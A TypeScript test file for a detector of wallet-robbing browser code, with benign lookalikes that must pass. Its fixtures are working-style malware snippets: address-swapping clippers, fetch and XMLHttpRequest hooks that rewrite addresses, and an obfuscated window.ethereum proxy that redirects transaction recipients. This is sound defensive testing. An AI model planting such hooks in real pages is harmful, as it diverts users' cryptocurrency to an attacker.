import { describe, expect, it } from 'vitest';
import { verdictsOf } from '../testing/shapesIn.ts';

const digit = (i: number, of: string): string => of[(i * 7 + 3) % of.length] ?? '1';
const base58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const spell = (start: string, count: number, of: string, seed: number): string =>
  start + Array.from({ length: count }, (_, i) => digit(i * (seed + 3) + seed, of)).join('');
/** Made by arithmetic: nobody's. */
const ethereum = Array.from({ length: 6 }, (_, i) => spell('0x', 40, '0123456789abcdef', i));
const bitcoin = Array.from({ length: 6 }, (_, i) => spell('1', 33, base58, i));
const tron = Array.from({ length: 6 }, (_, i) => spell('T', 33, base58, i));
const list = (all: readonly string[]): string => `[${all.map((one) => `'${one}'`).join(', ')}]`;

const nearest = `function far(a, b) {
  const d = Array.from({ length: a.length + 1 }, () => Array(b.length + 1).fill(0));
  for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++)
    d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i] === b[j] ? 0 : 1));
  return d[a.length][b.length];
}
function near(a, all) { let best = all[0]; for (const one of all) if (far(a, one) < far(a, best)) best = one; return best }`;
const tables = `const e = ${list(ethereum)}, b = ${list(bitcoin)}, t = ${list(tron)};`;
const swap = `function swap(s) { return s.replace(/0x[a-fA-F0-9]{40}/g, (x) => near(x, e)).replace(/T[1-9A-HJ-NP-Za-km-z]{33}/g, (x) => near(x, t)) }`;

describe('what robs wallets in a page is held', () => {
  it.each([
    ['a table and the nearest of it', `${tables}${nearest} exports.pick = (x) => near(x, e)`, ['hold address-table']],
    [
      'addresses replaced by ours',
      `const mine = { e: '${ethereum[0]}', b: '${bitcoin[0]}', t: '${tron[0]}' }; exports.go = (s) => s.replace(/0x[a-fA-F0-9]{40}/g, mine.e).replace(/T[1-9A-HJ-NP-Za-km-z]{33}/g, mine.t)`,
      ['hold address-table'],
    ],
    [
      'fetch that swaps what comes back',
      `${tables}${nearest}${swap} const before = window.fetch; window.fetch = async function (...a) { const r = await before(...a); const s = swap(await r.text()); return new Response(s, r) }`,
      ['hold address-table', 'hold hooked-browser'],
    ],
    [
      'XMLHttpRequest that swaps what goes out',
      `${tables}${nearest}${swap} const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { return send.call(this, swap(body)) }`,
      ['hold address-table', 'hold hooked-browser'],
    ],
    [
      'a wallet whose transactions go elsewhere',
      `const old = window.ethereum.request; window.ethereum.request = async function (args) { if (args.method === 'eth_sendTransaction') args.params[0].to = '${ethereum[0]}'; return old.call(this, args) }`,
      ['hold hooked-browser'],
    ],
    [
      'the same by other names and a Proxy',
      `const w = globalThis['ether' + 'eum']; w['req' + 'uest'] = new Proxy(w.request, { apply(f, self, list) { list[0].params[0].to = pick(); return Reflect.apply(f, self, list) } })`,
      ['hold hooked-browser'],
    ],
    [
      'a wallet that is listened to',
      `const old = window.ethereum.request; window.ethereum.request = function (args) { log(args); return old.call(window.ethereum, args) }`,
      ['review hooked-browser'],
    ],
  ])('%s', (_, text, verdicts) => {
    expect(verdictsOf({ 'a.js': text })).toEqual(verdicts);
  });
});

describe('honest code that looks like it passes', () => {
  it.each([
    [
      'a polyfill of fetch',
      "if (!self.fetch) { self.fetch = function fetch(input, init) { return new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok(new Response(x.response.replace(/\\r?\\n/g, ' '))); x.open('GET', input); x.send() }) } }",
    ],
    [
      'a tracer that adds a header and times the answer',
      "const old = window.fetch; window.fetch = function (input, init) { const start = Date.now(); init.headers.traceparent = id(); return old.call(this, input, init).then((r) => { report(Date.now() - start); return r }) }; const open = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (method, url) { this.url = url.replace(/\\?.*/, ''); return open.apply(this, arguments) }",
    ],
    [
      'a wallet that announces itself',
      'class Provider { request(args) { return ask(args) } } window.ethereum = new Provider()',
    ],
    [
      'a list of tokens',
      `module.exports = [${ethereum.map((one, i) => `{ symbol: 'T${i}', address: '${one}' }`).join(', ')}]`,
    ],
    [
      'a checker of addresses',
      "const FORMS = { eth: /^0x[a-fA-F0-9]{40}$/, tron: /^T[1-9A-HJ-NP-Za-km-z]{33}$/, btc: /^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/ }; exports.is = (x, coin) => FORMS[coin].test(x.replace(/^0x/, '0x').trim())",
    ],
    [
      'a checker with examples of many chains',
      `${tables} exports.checksum = (x) => x.toLowerCase().replace('0x', ''); exports.examples = { e, b, t }`,
    ],
    ['a spelling corrector', `${nearest} exports.suggest = (word) => near(word, ['install', 'update', 'remove'])`],
  ])('%s', (_, text) => {
    expect(verdictsOf({ 'a.js': text }).filter((one) => !one.startsWith('note'))).toEqual([]);
  });
});
